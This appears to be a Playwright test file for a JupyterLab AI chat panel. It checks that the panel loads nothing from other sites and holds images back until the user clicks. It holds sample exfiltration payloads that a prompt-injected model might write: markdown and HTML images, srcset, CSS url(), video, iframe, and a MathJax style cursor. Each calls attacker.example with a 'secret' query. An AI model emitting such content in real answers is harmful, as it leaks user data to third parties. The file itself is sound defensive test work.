import type { IJupyterLabPageFixture } from '@jupyterlab/galata';
import type { Locator } from '@playwright/test';

import { expect, test } from './fixtures';
import { chat, reloadLab, runCell, unmockedKernels } from './utils';

/** A 1x1 PNG, for the data: image and for the image loaded on request. */
const PNG_BASE64 =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/**
 * An answer that a prompt injection could make the model write: every way
 * markdown, HTML and TeX can make the browser fetch from another site, a
 * link, and an inline image that must still show.
 */
const ANSWER = [
  'Here is the chart: ![chart](https://attacker.example/md.png?q=secret)',
  '',
  '<img src="https://attacker.example/tag.png?q=secret" alt="tag">',
  '',
  '<img src="//cdn.attacker.example/proto.png" srcset="https://attacker.example/set.png 2x" alt="set">',
  '',
  '<picture><source srcset="https://attacker.example/pic.webp"><img src="https://attacker.example/pic.png" alt="pic"></picture>',
  '',
  '<div style="background-image:url(https://attacker.example/bg.png); color: red">styled</div>',
  '',
  '<video src="https://attacker.example/v.mp4" poster="https://attacker.example/poster.png"></video>',
  '',
  '<iframe src="https://attacker.example/frame"></iframe>',
  '',
  '<style>body { background: url(https://attacker.example/style.png) }</style>',
  '',
  'Read [the docs](https://docs.example.org/page).',
  '',
  // MathJax's safe mode keeps this cursor, which loads on hover.
  'Math: $\\style{cursor: url(https://attacker.example/cursor.png), auto}{x}$',
  '',
  `![dot](data:image/png;base64,${PNG_BASE64})`
].join('\n');

/** Requests of the page's browser context to any host but this machine. */
function recordRemoteRequests(page: IJupyterLabPageFixture): string[] {
  const remote: string[] = [];
  page.context().on('request', request => {
    const { hostname } = new URL(request.url());
    if (!['localhost', '127.0.0.1'].includes(hostname)) {
      remote.push(request.url());
    }
  });
  return remote;
}

/** Whether an image has loaded (its pixels, not just its element). */
async function expectLoaded(image: Locator): Promise<void> {
  await expect(image).toBeVisible();
  await expect
    .poll(() => image.evaluate((img: HTMLImageElement) => img.naturalWidth))
    .toBeGreaterThan(0);
}

/** The rendered answer loads nothing from elsewhere, and offers to. */
async function expectNothingRemote(
  page: IJupyterLabPageFixture,
  remote: string[]
): Promise<void> {
  const answer = chat(page).assistant.last();
  // The data: image renders in the same pass as every other element; the
  // math is typeset after it.
  await expectLoaded(answer.getByRole('img', { name: 'dot' }));
  await answer.locator('mjx-container').hover();
  await expect(answer.locator('[style*="url("]')).toHaveCount(0);
  await expect(
    answer.getByRole('button', {
      name: 'Load image from attacker.example',
      exact: true
    })
  ).toHaveCount(3);
  await expect(
    answer.getByRole('button', {
      name: 'Load image from cdn.attacker.example',
      exact: true
    })
  ).toHaveCount(1);
  await expect(answer).toContainText(
    '(video from attacker.example not loaded)'
  );
  await expect(answer.locator('iframe, style, video')).toHaveCount(0);

  const styled = answer.getByText('styled');
  await expect(styled).toHaveAttribute('style', 'color: red;');

  const link = answer.getByRole('link', { name: 'the docs' });
  await expect(link).toHaveAttribute('href', 'https://docs.example.org/page');
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('referrerpolicy', 'no-referrer');
  await expect(link).toHaveAttribute('rel', /noopener/);

  expect(remote).toEqual([]);
}

test('the model cannot make the chat load anything from another site', async ({
  page,
  ci
}) => {
  const remote = recordRemoteRequests(page);
  // Nothing leaves the machine, even when the user asks for an image.
  await page.route('https://attacker.example/**', route =>
    route.fulfill({
      contentType: 'image/png',
      body: Buffer.from(PNG_BASE64, 'base64')
    })
  );
  await ci.start('remote.ipynb', [{ text: ANSWER }]);
  await ci.askUntilDone('Show me the chart.');
  await expectNothingRemote(page, remote);

  // Restored from history after a reload, it still loads nothing.
  await page.notebook.save();
  await reloadLab(page, 'remote.ipynb');
  await expect(chat(page).user).toHaveText(['Show me the chart.']);
  await expectNothingRemote(page, remote);

  // Until the user asks for one image: only that one is loaded.
  const answer = chat(page).assistant.last();
  await answer
    .getByRole('button', { name: 'Load image from attacker.example' })
    .first()
    .click();
  await expectLoaded(answer.getByRole('img', { name: 'chart' }));
  expect(remote).toEqual(['https://attacker.example/md.png?q=secret']);
  await expect(
    answer.getByRole('button', {
      name: 'Load image from attacker.example',
      exact: true
    })
  ).toHaveCount(2);
});

test.describe("outputs of the assistant's cells", () => {
  test.use(unmockedKernels);

  test("images in a step's HTML and markdown outputs load nothing until clicked", async ({
    page,
    ci
  }) => {
    // The notebook itself renders the cell's (trusted) outputs as Lab always
    // does; what is checked here is the chat's step card.
    await page.route('https://attacker.example/**', route =>
      route.fulfill({
        contentType: 'image/png',
        body: Buffer.from(PNG_BASE64, 'base64')
      })
    );
    const code = [
      'from IPython.display import HTML, Markdown, display',
      'display(HTML(\'<p>chart</p><img src="https://attacker.example/out.png?q=secret" alt="html-out">\'))',
      "display(Markdown('![md-out](https://attacker.example/md-out.png?q=secret)'))",
      `display(HTML('<img src="data:image/png;base64,${PNG_BASE64}" alt="inline">'))`
    ].join('\n');
    const { steps } = await ci.start('remote-outputs.ipynb', [
      runCell(code),
      { text: 'Shown.' }
    ]);
    await ci.askUntilDone('Show the pictures.');

    const expectDeferred = async () => {
      const card = chat(page).steps.first();
      await expectLoaded(card.getByRole('img', { name: 'inline' }));
      await expect(
        card.getByRole('button', {
          name: 'Load image from attacker.example',
          exact: true
        })
      ).toHaveCount(2);
      await expect(card.locator('img[src*="attacker.example"]')).toHaveCount(0);
    };
    await expectDeferred();
    await expect(steps.first()).toContainText('chart');

    // Restored from history after a reload, the same (once the panel's own
    // save at the end of the request is done: see history.spec.ts).
    await expect(
      page.locator('.lm-DockPanel-tabBar .lm-TabBar-tab.jp-mod-dirty')
    ).toHaveCount(0);
    await reloadLab(page, 'remote-outputs.ipynb');
    await expectDeferred();

    // A click loads that image, and only that one.
    const card = chat(page).steps.first();
    await card
      .getByRole('button', { name: 'Load image from attacker.example' })
      .first()
      .click();
    await expectLoaded(card.getByRole('img', { name: 'html-out' }));
    await expect(card.locator('img[src*="attacker.example"]')).toHaveCount(1);
  });
});
